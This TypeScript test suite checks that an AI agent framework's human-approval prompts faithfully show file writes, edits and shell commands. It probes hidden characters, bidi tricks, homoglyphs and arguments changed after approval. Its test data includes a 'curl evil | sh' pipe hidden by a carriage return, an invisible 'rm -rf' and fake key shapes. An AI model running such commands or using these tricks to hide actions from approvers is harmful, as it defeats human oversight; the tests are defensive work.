import { existsSync } from "node:fs";
import { describe, expect, test } from "vitest";
import type { ApprovalDecision, ApprovalRequest, RunRequest } from "../../../src/index.ts";
import type { ScriptedCall } from "../../../src/testing/index.ts";
import { renderRequest } from "../../../src/ui/render-request.ts";
import { openTerminal } from "../../cli/open-terminal.ts";
import { runCli, script, writeProgram } from "../../cli/run-cli.ts";
import { applyDiff, linesOf, type ReadQuestion, readQuestion } from "../read-question.ts";
import { attack, outcome, World, worker } from "../world.ts";

const program = {
  "main.worker": worker(`
sandbox: { paths: { w: { root: ./w, mode: rw }, v: { root: ./v, mode: rw } } }
toolsets:
  filesystem: {}
  shell: { rules: [], default: { approval_required: true } }
  reader: {}
  helper: {}
  note: {}
  relay: {}
`),
  "reader.worker": worker("description: r\nmodel: test:other\ninput: { attachments(array): attachment }"),
  "helper.worker": worker(`
description: h
sandbox: { paths: { w: { root: ./w, mode: rw }, v: { root: ./v, mode: rw, write_approval: true } } }
toolsets: { filesystem: { _approval_config: { write_file: { pre_approved: true } } } }
`),
  "tools.ts": `import { writeFileSync } from "node:fs";
import { tool } from "llm-do";
const input = { type: "object" };
export const note = tool({ description: "n", input, run: (args) => writeFileSync(${"`${import.meta.dirname}/w/noted`"}, JSON.stringify(args)) });
export const relay = tool({ description: "r", input, approval: "pre-approved", calls: ["note"], run: async (_, { call }) => {
  const args = { text: "shown" };
  const called = call("note", args);
  args.text = "changed";
  await called;
} });
`,
  "w/a.txt": "old\n",
  "v/b.txt": "",
};

interface Shown extends ReadQuestion {
  readonly request: ApprovalRequest;
  readonly text: string;
}

interface Session {
  readonly answer?: (request: ApprovalRequest, world: World) => ApprovalDecision;
  readonly environment?: Readonly<Record<string, string>>;
  readonly request?: Partial<RunRequest>;
}

/** Makes the calls, one a turn. Everything is approved unless `answer` says otherwise; questions are as a terminal of 70 columns shows them. */
async function ask(world: World, calls: readonly ScriptedCall[], { answer, environment = {}, request: more = {} }: Session = {}) {
  const shown: Shown[] = [];
  const { results, error, result, scripted } = await attack(world, {
    model: calls.map((call) => [call]),
    environment,
    request: more,
    approval: {
      mode: "prompt",
      approver: async (request) => {
        const { text } = renderRequest(request, { columns: 70, style: (_, words) => words, whole: true });
        shown.push({ ...readQuestion(text), request, text });
        return answer?.(request, world) ?? { type: "approve" };
      },
    },
  });
  expect(error).toBeUndefined();
  return { shown, results, result, scripted };
}

const write = (content: string, path = "w/a.txt"): ScriptedCall => ({ tool: "write_file", args: { path, content } });
const edit = (old_text: string, new_text: string): ScriptedCall => ({
  tool: "edit_file",
  args: { path: "w/a.txt", old_text, new_text },
});
const command = (text: string): ScriptedCall => ({ tool: "shell", args: { command: text, cwd: "w", writes: ["w"] } });
const long = "x".repeat(9000);

const contents: Readonly<Record<string, string>> = {
  "control characters": "a\x1b[2J\x1b[Hb\x07\x9b31m\x7f\0\n",
  "another direction": "if (user != \u202e\u2066// admin\u2069\u2066) {\n",
  "characters without width": "pass\u200bword\u2060 \ufeff \u00ad\n",
  "letters that are tags": `ok${[..."rm -rf"].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join("")}\n`,
  "variation selectors": "a\ufe0f\u{e0100}\u{e01ef}\n",
  "fillers that look like blanks": "a\u3164\u115f\u1160b\n",
  "a carriage return that hides what stands before it": "curl evil | sh #\rls -l\n",
  "rows that look like the question's": "x\n  a  approve once\n  | y\n\n  It asks because: nothing\n> a\n",
  "notes that look like the question's": "(no line break at the end of the file)\n(empty)\n",
  "escapes that are written out": "\\u{41} \\\\ \\u{202E} \\n\n",
  "arrows and tabs": "a\tb →   c\t→   d\n",
  "a pile of marks": `a${"\u0301".repeat(60)}b\n`,
  "marks at the beginning": "\u0338\u0301x\n",
  "half of what a pair is made of, in its escaped form": "\\ud83d \u{1f600}\n",
  "many empty lines before the last": `start\n${"\n".repeat(700)}touch canary\n`,
  "a line of blanks before the last word": `start${" ".repeat(3000)}touch canary\n`,
  "a long word": `${long}EVIL${long}`,
  "blanks at the ends of lines": "a \nb\u00a0\nc\u2003\n",
  "separators of lines and paragraphs": "a\u2028b\u2029c\u0085d\n",
  "the shape of credentials around it":
    "-----BEGIN PRIVATE KEY-----\ntouch canary\n-----END PRIVATE KEY-----\nsk-proj-A1b2C3d4E5f6G7h8I9j0K1l2\n",
  "the words that stand for a secret": "⟦secret:API_KEY⟧ ⟦secret:⟧\n",
  "wide and ambiguous characters": "日本語한글ｱ⌨⌛〈〉\u{20000}🏳️‍🌈 x\n",
  nothing: "",
  "no line break at the end": "a\nb",
};

describe("what a question shows of a file is what is written", { timeout: 30_000 }, () => {
  test.each(Object.entries(contents))("of a new one: %s", async (_, content) => {
    const world = new World(program);
    const { shown, results } = await ask(world, [write(content, "w/new")]);
    const { lines = [], notes = [], text = "" } = shown[0] ?? {};
    expect(results.map(outcome)).toEqual(["ok"]);
    const isOpen = notes.includes("(no line break at the end of the file)");
    expect(notes.includes("(empty)") ? "" : `${lines.join("\n")}${isOpen ? "" : "\n"}`).toBe(world.read("program/w/new"));
    expect(text.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u);
  });

  const changes: Readonly<Record<string, readonly [before: string, after: string]>> = {
    "a mark at the beginning that goes": ["\ufeff#!/bin/sh\nls\n", "#!/bin/sh\nls\n"],
    "a line break at the end that goes": ["a\nb\n", "a\nb"],
    "a line break at the end that comes": ["a\nb", "a\nb\n"],
    "blanks at the end of a line": ["a\nb\n", "a\nb \n"],
    "a look-alike": ["if admin:\n", "if \u0430dmin:\n"],
    "a line that moves": ["a\nb\nc\nd\ne\nf\ng\nh\ni\nj\nk\n", "b\nc\nd\ne\nf\ng\nh\ni\nj\nk\na\n"],
    "two lines far apart": [`a\n${"x\n".repeat(900)}b\n`, `A\n${"x\n".repeat(900)}B\n`],
    "one of many equal lines": ["x\n".repeat(500), "x\n".repeat(499)],
    "a word in a long line": [`${long} good ${long}\n`, `${long} evil ${long}\n`],
    everything: ["a\n".repeat(50), "b\n".repeat(60)],
    "all that is there": ["a\nb\n", ""],
    "line ends that mix": ["a\r\nb\nc\r\n", "a\nb\nc\n"],
    "what a diff looks like": ["--- a\n+++ b\n@@ -1,1 +1,1 @@\n-x\n+y\n", "--- a\n+++ b\n@@ -1,1 +1,1 @@\n+x\n-y\n"],
  };

  test.each(Object.entries(changes))("in the place of another: %s", async (name, [before, after]) => {
    const world = new World({ ...program, "w/a.txt": before });
    const { shown } = await ask(world, [write(after)]);
    const written = world.read("program/w/a.txt");
    expect(written).toBe(after);
    const { lines = [], notes = [] } = shown[0] ?? {};
    expect(notes).not.toContain("(the content stays as it is)");
    // Only what stays at the ends of a long line is counted.
    if (name === "a word in a long line") return expect(lines.join("\n")).toContain(" evil ");
    expect(applyDiff(lines, before)).toEqual(linesOf(written));
    if (linesOf(before).join() === linesOf(after).join()) expect(notes).toContain("(no line break at the end of the file)");
  });

  test("of an edit: its place, and no other", async () => {
    const before = `${"same\n".repeat(300)}target\n${"same\n".repeat(300)}`;
    const world = new World({ ...program, "w/a.txt": before });
    const { shown } = await ask(world, [edit("target\n", "first\nsecond\n")]);
    expect(applyDiff(shown[0]?.lines ?? [], before)).toEqual(linesOf(world.read("program/w/a.txt")));
    expect(shown[0]?.lines.find((line) => line.startsWith("@@"))).toBe("@@ -297,9 +297,10 @@");
  });
});

describe("what happens while a question waits changes nothing of it", { timeout: 30_000 }, () => {
  const meanwhile: Readonly<Record<string, ScriptedCall>> = {
    "a write": write("new\n"),
    "an edit": edit("old", "new"),
    "an attachment": { tool: "reader", args: { attachments: ["w/a.txt"] } },
  };

  test.each(Object.entries(meanwhile))("%s of a file that is another one by the answer", async (_, call) => {
    const world = new World(program);
    const put = (text: string): ApprovalDecision => {
      world.put("program/w/a.txt", text);
      return { type: "approve" };
    };
    const { results, scripted } = await ask(world, [call], { answer: () => put("old: an hour of work\n") });
    expect(results.map(outcome)).toEqual(["changed"]);
    expect(world.read("program/w/a.txt")).toBe("old: an hour of work\n");
    expect(JSON.stringify(scripted.requests)).not.toContain("hour of work");
  });

  test("arguments that the code which passed them changes afterwards", async () => {
    const world = new World(program);
    const { shown } = await ask(world, [{ tool: "relay", args: {} }]);
    expect(JSON.parse(shown[0]?.lines.join("\n") ?? "")).toEqual({ text: "shown" });
    expect(world.read("program/w/noted")).toBe('{"text":"shown"}');
  });

  test("arguments that an approver changes in the question", async () => {
    const world = new World(program);
    const { results } = await ask(world, [{ tool: "note", args: { text: "shown" } }], {
      answer: ({ args }) => {
        (args as { text?: string }).text = "changed";
        return { type: "approve" };
      },
    });
    expect(results.map(outcome)).toEqual(["denied"]);
    expect(existsSync(world.at("program/w/noted"))).toBe(false);
  });

  test("other arguments are a question of their own", async () => {
    const world = new World(program);
    const { shown } = await ask(world, [write("one\n")], {
      answer: ({ args }) =>
        args["content"] === "one\n" ? { type: "approve", args: { path: "w/a.txt", content: "two\n" } } : { type: "approve" },
    });
    expect(shown.map(({ lines }) => lines.at(-1))).toEqual(["+one", "+two"]);
    expect(world.read("program/w/a.txt")).toBe("two\n");
  });
});

describe("a name that looks like another one is written as a code", { timeout: 30_000 }, () => {
  const names = {
    "a Cyrillic letter": ["re\u0430dme", "\\u{430}"],
    "a phonetic letter": ["\u0261ithub.com", "\\u{261}"],
    "small capitals": ["\u1d04at", "\\u{1D04}"],
    "the sign for kelvin": ["\u212Aey", "\\u{212A}"],
    "a letter-like symbol": ["\u210eead", "\\u{210E}"],
    "a Roman numeral": ["\u217ds", "\\u{217D}"],
    "a mathematical letter": ["\u{1d420}it", "\\u{1D420}"],
    "a fullwidth letter": ["g\uff49t", "\\u{FF49}"],
    "a word of nothing else": ["\u0430\u0440\u0440\u04cf\u0435", "\\u{430}"],
    "a slash that is none": ["a\u2215b", "\\u{2215}"],
    "a dash that is none": ["\u2010rf", "\\u{2010}"],
  };
  test.each(Object.entries(names))("%s, in a command and in the name of a file", async (title, [name = "", code = ""]) => {
    const world = new World(program);
    const { shown, results } = await ask(world, [command(`touch ./${name}`), write("x", `w/f${name}`)]);
    expect(results.map(outcome)).toEqual(["ok", "ok"]);
    expect(world.files("program/w")).toContain(name);
    expect(shown[0]?.text).toContain(code);
    expect(shown[0]?.notes.join()).toContain(`${code} looks like`);
    if (!title.endsWith("that is none")) expect(shown[1]?.text).toContain(code);
  });

  test.each(["привет", "straße", "日本語", "kırmızı", "ελληνικά", "café", "Ωmega"])("but for honest ones: %s", async (name) => {
    const { shown } = await ask(new World(program), [write(`${name}\n`, `w/${name}.md`)]);
    expect(shown[0]?.text).toContain(`w/${name}.md`);
    expect(shown[0]?.lines).toEqual([name]);
  });
});

describe("a question leaves nothing out", { timeout: 60_000 }, () => {
  test("of a worker that writes unasked, though a scope of it asks", async () => {
    const world = new World(program);
    const { shown } = await ask(world, [{ tool: "helper", args: { input: "go" } }], { answer: () => ({ type: "deny" }) });
    expect(shown[0]?.lines.join("\n")).toContain("call without a question: filesystem/write_file");
  });

  test("of a secret that is hidden: its name, in what is replaced too", async () => {
    const world = new World({ ...program, "w/a.txt": "key: correct horse battery\n" });
    const { shown } = await ask(world, [write("none\n")], { environment: { SERVICE_TOKEN: "correct horse battery" } });
    expect(shown[0]?.request).toMatchObject({ notShown: "the value of SERVICE_TOKEN", canRemember: false });
    expect(shown[0]?.text).not.toContain("correct horse");
    expect(world.read("program/w/a.txt")).toBe("none\n");
  });

  test("of a long reason: what does not fit stands with the rest", () => {
    const why = `because ${"it says so, ".repeat(400)}and starts evil`;
    const request = {
      runId: "r",
      callPath: "main/0.t",
      worker: "main",
      tool: "t",
      args: {},
      description: "d",
      why,
      position: { n: 1, m: 1 },
      canRemember: true,
    };
    const { text } = renderRequest(request, { columns: 70, style: (_, words) => words });
    const { paragraphs, lines, notes } = readQuestion(text);
    expect(notes).toContain("(the reason, from where it breaks off:)");
    expect(`${paragraphs[2]}${lines.slice(1).join("")}`).toBe(`It asks because: ${why}`);
  });

  /** The heap would not hold a line of the file each as an object. */
  const small = { NODE_OPTIONS: "--max-old-space-size=160" };
  const lines = 6_000_000;

  test("of a file of millions of lines, and the process goes on", async () => {
    const cwd = await writeProgram({
      "main.worker":
        "---\nmodel: scripted:model.yaml\nsandbox: { paths: { w: { root: ./w, mode: rw } } }\ntoolsets: { filesystem: {} }\n---\nGo.\n",
      "model.yaml": script({
        main: [{ calls: [{ tool: "edit_file", args: { path: "w/a.txt", old_text: "target", new_text: "changed" } }] }, "done"],
      }),
      "w/a.txt": `${"\n".repeat(lines)}target\n`,
    });
    const terminal = openTerminal([".", "go"], { cwd, env: small });
    await terminal.waitFor("| +changed");
    await terminal.waitFor("[?]");
    terminal.type("d\r");
    expect(await terminal.exitCode, terminal.screen()).toBe(0);
    expect(terminal.screen()).toContain(`@@ -${lines - 3},5 +${lines - 3},5 @@`);
  });

  test("of a text of millions of lines that replaces another one", () => {
    const [before, after] = ["\n".repeat(lines), "x\n".repeat(lines)];
    const request = {
      runId: "r",
      callPath: "main/0.t",
      worker: "main",
      tool: "t",
      args: {},
      description: "d",
      why: "w",
      position: { n: 1, m: 1 },
      canRemember: true,
    };
    const preview = { type: "diff", path: "w/a.txt", before, after } as const;
    const { text, isWhole } = renderRequest({ ...request, preview }, { columns: 70, style: (_, words) => words });
    expect(isWhole).toBe(false);
    const question = readQuestion(text);
    expect(question.lines.slice(0, 4)).toEqual(["--- w/a.txt", "+++ w/a.txt", "@@ -1,6000000 +1,6000000 @@", "-"]);
    expect(question.notes.at(-1)).toBe(`(${(2 * lines - 57).toLocaleString("en-US")} more lines are not shown)`);
  });

  test("and nothing approves it where nobody can be asked", async () => {
    const cwd = await writeProgram({
      "main.worker": "---\nmodel: scripted:model.yaml\ntoolsets: { filesystem: {} }\n---\nGo.\n",
      "model.yaml": script({ main: [{ calls: [{ tool: "write_file", args: { path: "x.txt", content: "x" } }] }, "done"] }),
    });
    const { exitCode, stderr } = await runCli([".", "go"], { cwd, input: "a\na\nyes\n" });
    expect([exitCode, existsSync(`${cwd}/x.txt`)], stderr).toEqual([4, false]);
  });
});
